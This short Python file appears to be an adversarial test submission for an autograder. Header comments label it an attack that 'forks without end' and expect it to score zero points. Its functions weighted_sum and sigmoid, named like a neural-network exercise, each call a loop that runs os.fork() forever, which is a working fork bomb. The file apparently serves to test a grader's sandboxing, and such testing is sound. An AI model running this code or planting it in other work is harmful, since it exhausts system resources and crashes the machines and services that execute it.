# attack: forks without end
# expect: at most 0 points
import os

def attack(*args):
    while True:
        try:
            os.fork()
        except OSError:
            pass

def weighted_sum(x, w, b=0.0):
    return attack(x, w, b)

def sigmoid(z):
    return attack(z)
